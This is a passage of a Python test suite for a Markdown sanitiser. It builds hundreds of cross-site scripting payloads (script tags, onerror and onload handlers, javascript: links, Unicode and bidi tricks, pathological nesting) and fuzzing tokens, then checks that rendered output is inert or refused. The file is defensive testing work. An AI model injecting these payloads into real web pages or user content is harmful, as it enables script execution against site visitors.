    "marked-section-unclosed": "<p><![x <script>alert(1)</script></p>",
    "marked-section-empty": "<div><![</div><svg onload=alert(1)>",
}.items():
    add(f"malformed-{name}", text)

# Markdown's own link and image syntax, footnotes, and the project's [@key] citations and
# [[slug|text]] node links, with hostile contents in every part.
for name, text in {
    "title-breaks-quote": '[x](https://example.org "title" onclick="alert(1)")',
    "title-single-quotes": '[x](https://example.org \'ti"tle" onclick="alert(1)\')',
    "title-escaped-quote": '[x](https://example.org "a\\" onclick=\\"alert(1)")',
    "title-markup": '[x](https://example.org "</a><img src=x onerror=alert(1)>")',
    "title-parens": '[x](https://example.org (title" onclick="alert(1)))',
    "image-alt-quote": '![x" onerror="alert(1)](https://example.org/a.png)',
    "image-title-quote": '![x](https://example.org/a.png "x\\" onerror=\\"alert(1)")',
    "angle-dest-title": '[x](<javascript:alert(1)> "t")',
    "angle-dest-quote": '[x](<https://example.org" onclick="alert(1)>)',
    "dest-quote": '[x](https://example.org" onclick="alert(1))',
    "dest-markup": "[x](https://example.org/<img src=x onerror=alert(1)>)",
    "nested-link-in-dest": "[x]([y](javascript:alert(1)))",
    "nested-brackets": "[a[b[c](javascript:alert(1))]]",
    "image-in-image": "![![x](javascript:alert(1))](javascript:alert(2))",
    "image-in-link": "[![x](https://example.org/a.png)](javascript:alert(1))",
    "ref-title-handler": '[x][r]\n\n[r]: https://example.org "t" onclick=alert(1)',
    "ref-markup-dest": "[x][r]\n\n[r]: <img src=x onerror=alert(1)>",
    "ref-label-markup": "[<svg onload=alert(1)>][r]\n\n[r]: https://example.org",
    "autolink-quote": '<https://example.org/"onmouseover="alert(1)>',
    "autolink-markup": "<https://example.org/<img src=x onerror=alert(1)>>",
    "autolink-mailto-markup": "<mailto:a@b.org?body=<script>alert(1)</script>>",
    "autolink-email-quote": '<a@b.org" onclick="alert(1)>',
    "autolink-email-js": "<javascript:alert(1)@example.org>",
    "footnote-markup": "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "footnote-js-link": "Text[^1]\n\n[^1]: [x](javascript:alert(1))",
    "footnote-label-markup": "Text[^<img src=x onerror=alert(1)>]\n\n"
    "[^<img src=x onerror=alert(1)>]: note",
    "footnote-label-quote": 'Text[^x" onclick="alert(1)]\n\n[^x" onclick="alert(1)]: note',
    "footnote-label-js": "Text[^javascript:alert(1)]\n\n[^javascript:alert(1)]: note",
    "footnote-in-footnote": "A[^a]\n\n[^a]: B[^b]\n\n[^b]: <script>alert(1)</script>",
    "citation-script": "[@<script>alert(1)</script>]",
    "citation-quote": '[@x" onmouseover="alert(1)]',
    "citation-markup": "[@x><img src=x onerror=alert(1)>]",
    "citation-js": "[@javascript:alert(1)]",
    "citation-second-key": '[@a; @"><svg onload=alert(1)>]',
    "citation-href-breakout": '[@x"><a href="javascript:alert(1)]',
    "node-link-quote-slug": '[[ampk" onclick="alert(1)]]',
    "node-link-js-slug": "[[javascript:alert(1)]]",
    "node-link-js-slug-text": "[[javascript:alert(1)|x]]",
    "node-link-dotdot": "[[../../admin/|x]]",
    "node-link-svg-slug": "[[<svg onload=alert(1)>]]",
    "node-link-quote-text": '[[ampk|x" onclick="alert(1)]]',
    "fence-language-quote": '```javascript" onclick="alert(1)\n1\n```',
    "fence-language-markup": '```"><img src=x onerror=alert(1)>\n1\n```',
    "fence-attributes": "~~~ {.x onclick=alert(1)}\n1\n~~~",
    "fence-attributes-id": "``` { .x #y onclick=alert(1) }\n1\n```",
    "table-cells": "| a | b |\n|---|---|\n"
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "table-header": "| <script>alert(1)</script> |\n|:-:|\n| x |",
    "toc-markup": "## <img src=x onerror=alert(1)>\n\n## [x](javascript:alert(1))",
    "toc-script-and-quote": '## x<script>alert(1)</script>\n\n### y" onclick="alert(1)',
    "toc-citation-node-link": '## [@x" onclick=alert(1)]\n\n'
    "## [[ampk|<img src=x onerror=alert(1)>]]",
    "toc-svg-a": "## <svg onload=alert(1)>\n\n### <a href=javascript:alert(1)>x</a>",
    "toc-marker": "[TOC]\n\n## <img src=x onerror=alert(1)>\n\n## b",
    "toc-entity-heading": "## &lt;img src=x onerror=alert(1)&gt;\n\n## &#60;script&#62;",
    "setext-heading": "Heading\n=======\n\n<img src=x onerror=alert(1)>\n-------",
    "emphasis": "*<img src=x onerror=alert(1)>*",
    "strong-js-link": "**[x](javascript:alert(1))**",
    "underscore-script": "_<script>alert(1)</script>_",
    "code-span": "`<img src=x onerror=alert(1)>`",
    "list-items": "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "ordered-iframe": "1. x\n2. <iframe src=javascript:alert(1)>",
    "markdown-in-html": '<div markdown="1">[x](javascript:alert(1))</div>',
    "escaped-lt": "\\<img src=x onerror=alert(1)>",
    "escaped-gt": "<img src=x onerror=alert(1)\\>",
    "escaped-paren": "[x](javascript:alert(1)\\)",
    "entity-markup": "&lt;img src=x onerror=alert(1)&gt;",
    "abbreviation": "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
    "definition": "Term\n:   <script>alert(1)</script>",
    "attr-list": "A paragraph\n{: onclick=alert(1) }",
    "html-block-then-md": "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "hard-break-script": "a  \n<script>alert(1)</script>",
    "horizontal-rule-handler": "<hr onmouseover=alert(1)>\n\n---",
    "placeholder-forgery": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 <img src=x onerror=alert(1)>",
    "stash-placeholder-text": "wzxhzdk:0 klzzwxh:0 <script>alert(1)</script>",
}.items():
    add(f"markdown-{name}", text)

# Core payloads in every Markdown context: Python-Markdown treats raw HTML differently in
# blocks, inline, lists, quotes, tables, headings (and so the table of contents) and footnotes.
CORE_PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "img": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)>",
    "md-js": "[x](javascript:alert(1))",
    "a-js": '<a href="javascript:alert(1)">x</a>',
    "a-hex-js": "<a href=&#x6A;avascript:alert(1)>x</a>",
    "iframe": '<iframe src="javascript:alert(1)">',
    "mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "style": "<style>*{background:red}</style>",
    "style-attr": '<p style="background:url(javascript:alert(1))">x</p>',
    "details": "<details open ontoggle=alert(1)>",
    "image-data": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
}
WRAPPERS = {
    "inline": "Before {p} after.",
    "block": "Before.\n\n{p}\n\nAfter.",
    "list": "- item\n- {p}\n    - nested {p}",
    "ordered": "3. {p}",
    "quote": "> {p}",
    "nested-quote": "> > > {p}",
    "table": "| a | b |\n|---|---|\n| {p} | x |",
    "heading": "## {p}\n\n### second",
    "emphasis": "**_{p}_**",
    "link-text": "[{p}](https://example.org)",
    "footnote": "Text.[^n]\n\n[^n]: {p}",
    "citation": "{p} [@smith2020]",
    "node-link": "[[ampk|{p}]]",
    "html-block": "<div>\n{p}\n</div>",
    "setext": "{p}\n---",
    "between-code": "`x` {p} `y`",
    "list-code": "- x\n\n        {p}",
}
for payload_name, payload in CORE_PAYLOADS.items():
    for wrapper_name, wrapper in WRAPPERS.items():
        add(f"in-{wrapper_name}-{payload_name}", wrapper.replace("{p}", payload))

# Control characters, bidi overrides and isolates, zero-width characters, look-alikes.
for name, text in {
    "rlo-before-scheme": "[x](\u202ejavascript:alert(1))",
    "zwsp-in-scheme": "[x](java\u200bscript:alert(1))",
    "bom-before-scheme": "[x](\ufeffjavascript:alert(1))",
    "isolates-around-url": '<a href="\u2066javascript:alert(1)\u2069">x</a>',
    "ideographic-space-first": '<a href="\u3000javascript:alert(1)">x</a>',
    "line-separator-in-scheme": "[x](javascript\u2028:alert(1))",
    "rlo-before-handler": "<img src=x \u202eonerror=alert(1)>",
    "zwsp-in-handler": "<img src=x on\u200berror=alert(1)>",
    "zwsp-in-script": "<scr\u200bipt>alert(1)</script>",
    "zwsp-before-name": "<\u200bscript>alert(1)</script>",
    "rlo-before-script": "\u202e<script>alert(1)</script>",
    "lri-pdi-heading": "## \u2067<img src=x onerror=alert(1)>\u2069\n\n## b",
    "fsi-in-link-text": "[\u2068x\u2069](javascript:alert(1))",
    "rlo-spoofed-name": "[\u202egnp.exe](https://example.org/x)",
    "vertical-tab": "\x0b<script>alert(1)</script>",
    "formfeed": "\x0c<img src=x onerror=alert(1)>",
    "lone-cr": "\r<script>alert(1)</script>\r",
    "crlf": "a\r\n<script>\r\nalert(1)\r\n</script>",
    "escape-sequence": "\x1b[31m<img src=x onerror=alert(1)>",
    "escape-in-scheme": "[x](java\x1bscript:alert(1))",
    "combining-after-tag": "<img src=x onerror=alert(1)>\u0338",
    "emoji-before": "\U0001f600<script>alert(1)</script>",
    "long-s-script": "<\u017fcript>alert(1)</\u017fcript>",  # upper-cases to "S"
    "dotless-i-img": "<\u0131mg src=x onerror=alert(1)>",  # upper-cases to "I"
    "long-s-scheme": "[x](java\u017fcript:alert(1))",
    "kelvin-in-attribute": '<a href="x" onclic\u212a="alert(1)">x</a>',  # K sign lower-cases to "k"
    "nul-first": "\x00<script>alert(1)</script>",
    "nul-last": "<img src=x onerror=alert(1)>\x00",
    "controls-before-scheme": "[x](\x01\x02\x03javascript:alert(1))",
    "all-c0-controls": "".join(chr(c) for c in range(32)) + "<img src=x onerror=alert(1)>",
    "c1-controls": "".join(chr(c) for c in range(0x80, 0xA0)) + "<script>alert(1)</script>",
    "noncharacters": "\ufdd0\uffff<svg onload=alert(1)>",
    "private-use": "\ue000<script>alert(1)</script>\U000f0000",
}.items():
    add(f"unicode-{name}", text)


def nested_list(depth: int, payload: str) -> str:
    return "".join("    " * level + f"- {payload}\n" for level in range(depth))


# Pathological nesting and brackets, small enough to render (or be stopped) quickly, with a
# payload at the bottom: a slow or deep path must not be an unsanitised one.
for name, text in {
    "brackets": "[" * 300 + "x](javascript:alert(1))",
    "link-openers": "[x](" * 100 + "javascript:alert(1)",
    "parens": "(" * 300 + "[x](javascript:alert(1))" + ")" * 300,
    "stars": "*" * 150 + "<img src=x onerror=alert(1)>" + "*" * 150,
    "underscores": "_" * 150 + "<script>alert(1)</script>" + "_" * 150,
    "lts": "<" * 300 + "script>alert(1)",
    "open-a-tags": "<a " * 100 + "href=javascript:alert(1)>x",
    "image-openers": "![" * 100 + "x](javascript:alert(1))",
    "quotes-at-limit": "> " * MAX_NESTING + "<script>alert(1)</script>",
    "lists-at-limit": nested_list(MAX_NESTING, "<img src=x onerror=alert(1)>"),
    "backticks": "`" * 200 + "<script>alert(1)</script>" + "`" * 199,
    "footnote-openers": "[^" * 100 + "x]: <img src=x onerror=alert(1)>",
    "citation-openers": "[@" * 100 + "x<svg onload=alert(1)>]",
    "node-link-openers": "[[" * 100 + "ampk|<svg onload=alert(1)>" + "]]" * 100,
    "divs": "<div>" * 100 + "<script>alert(1)</script>" + "</div>" * 100,
    "svgs": "<svg>" * 50 + "<script>alert(1)</script>",
    "tables": "<table>" * 50 + "<img src=x onerror=alert(1)>",
    "math-in-svg": "<svg><math>" * 40 + "<style><img src=x onerror=alert(1)>",
    "formatting-elements": "<b><i><u><s>" * 50 + "<img src=x onerror=alert(1)>",
    "emphasis-runs": "***x" * 100 + "<script>alert(1)</script>",
    "fences": "~~~\n" * 50 + "<script>alert(1)</script>",
    "headings-for-toc": "\n\n".join(f"## h{i} <img src=x onerror=alert(1)>" for i in range(100)),
    "links-in-links": "[" * 50 + "x" + "](javascript:alert(1))" * 50,
}.items():
    add(f"nesting-{name}", text)

# Too deep or too slow: these must be refused, and a refusal is a pass.
MUST_BE_REFUSED = {
    "refused-quotes-too-deep": ">" * (MAX_NESTING + 1) + " <script>alert(1)</script>",
    "refused-lists-too-deep": nested_list(MAX_NESTING + 1, "<img src=x onerror=alert(1)>"),
    "refused-emphasis-too-deep": "*" * 3_000 + "<img src=x onerror=alert(1)>" + "*" * 3_000,
    "refused-brackets-too-slow": "[" * 8_000 + "[x](javascript:alert(1))",
}
# Over the length limit: refused before any rendering.
HUGE = {
    "huge-scripts": "<script>alert(1)</script>" * 2_000,
    "huge-js-links": "[x](javascript:alert(1))\n" * 2_000,
    "huge-one-over": "a" * (MAX_MARKDOWN_CHARACTERS + 1),
    "huge-payload-then-spaces": "<img src=x onerror=alert(1)>" + " " * MAX_MARKDOWN_CHARACTERS,
    "huge-2mb-svg": "<svg onload=alert(1)>" * 100_000,
    "huge-bidi": "\u202e" * (MAX_MARKDOWN_CHARACTERS + 1),
    "huge-brackets": "[" * 1_000_000,
}
for name, text in {**MUST_BE_REFUSED, **HUGE}.items():
    add(name, text)


# The corpus, through the renderer --------------------------------------------------------------


def test_the_corpus_has_at_least_three_hundred_distinct_inputs():
    texts = list(CORPUS.values())
    assert len(set(texts)) == len(texts), "some corpus inputs are the same text"
    assert len(texts) >= 300


@pytest.mark.parametrize("name", CORPUS)
def test_hostile_input_renders_to_nothing_active_within_the_time_bound(name):
    assert_inert_within_the_bound(CORPUS[name], name)


@pytest.mark.parametrize("name", MUST_BE_REFUSED)
def test_too_deep_or_too_slow_input_is_refused(name):
    with pytest.raises(MarkdownRefused):
        render_markdown(CORPUS[name])


@pytest.mark.parametrize("name", HUGE)
def test_input_over_the_length_limit_is_refused_before_rendering(name):
    started = time.process_time()
    with pytest.raises(MarkdownRefused) as refused:
        render_markdown(HUGE[name])
    assert time.process_time() - started < CPU_SECONDS_TO_REFUSE_A_HUGE_TEXT
    assert f"at most {MAX_MARKDOWN_CHARACTERS:,}" in refused.value.message


# Random inputs -------------------------------------------------------------------------------

# Markdown and HTML punctuation, the letters of the dangerous words, and a few characters
# that confuse parsers (tab, NUL, bidi override, zero-width space).
MARKDOWNISH = (
    "[]()<>!*_`#>-=:/\"'&;\n |^@.~{}\\" + "ascriptjvlonerfdbgmx0123" + "\t\x00\u202e\u200b"
)
DANGEROUS_TOKENS = [
    "<script>",
    "</script>",
    "<script",
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "data:text/html,",
    "data:image/svg+xml,",
    "vbscript:",
    "alert(1)",
    "onerror=",
    " onerror=alert(1)",
    "onload=",
    "onfocus=",
    " autofocus",
    "<img src=x",
    "<svg",
    "<svg/onload=alert(1)>",
    "<math>",
    "<mtext>",
    "<mglyph>",
    "<table>",
    "<style>",
    "</style>",
    "<noscript>",
    "<template>",
    "<textarea>",
    "</textarea>",
    "<title>",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    " action=",
    " formaction=",
    "<base href=",
    "<meta http-equiv=refresh content=",
    "<a href=",
    "<a ",
    " href=",
    " xlink:href=",
    " style=",
    "expression(",
    "url(",
    "<!--",
    "-->",
    "--!>",
    "<![CDATA[",
    "<![",
    "<div>",
    "</div>",
    "]]>",
    "&#x6A;",
    "&#106",
    "&#0000106;",
    "&colon;",
    "&Tab;",
    "&#x09;",
    "%6A",
    "[x](",
    "](",
    "![",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    '"',
    "'",
    "`",
    "```",
    "\n",
    "\n\n",
    "    ",
    "> ",
    "- ",
    "1. ",
    "## ",
    "| ",
    "\n|---|\n",
    "[@",
    "[[",
    "|",
    "]]",
    "[^1]",
    "\n\n[^1]: ",
    "\n\n[r]: ",
    "[x][r]",
    "\t",
    "\x00",
    "\u202e",
    "\u200b",
    "/",
    " ",
    "=",
    "x",
]
RANDOM_EXAMPLES = 300
random_settings = settings(
    max_examples=RANDOM_EXAMPLES,
    deadline=None,  # the CPU time is measured and bounded in the test itself
    database=None,  # nothing written into the repository (.hypothesis/)
    suppress_health_check=[HealthCheck.too_slow],
)


@random_settings
@given(st.text(alphabet=MARKDOWNISH, max_size=400))
def test_random_markdownish_text_renders_to_nothing_active_within_the_time_bound(text):
    assert_inert_within_the_bound(text)


@random_settings
@given(
    st.lists(
        st.one_of(st.sampled_from(DANGEROUS_TOKENS), st.text(alphabet=MARKDOWNISH, max_size=6)),
        max_size=60,
    ).map("".join)
)
def test_random_dangerous_tokens_render_to_nothing_active_within_the_time_bound(text):
    assert_inert_within_the_bound(text)
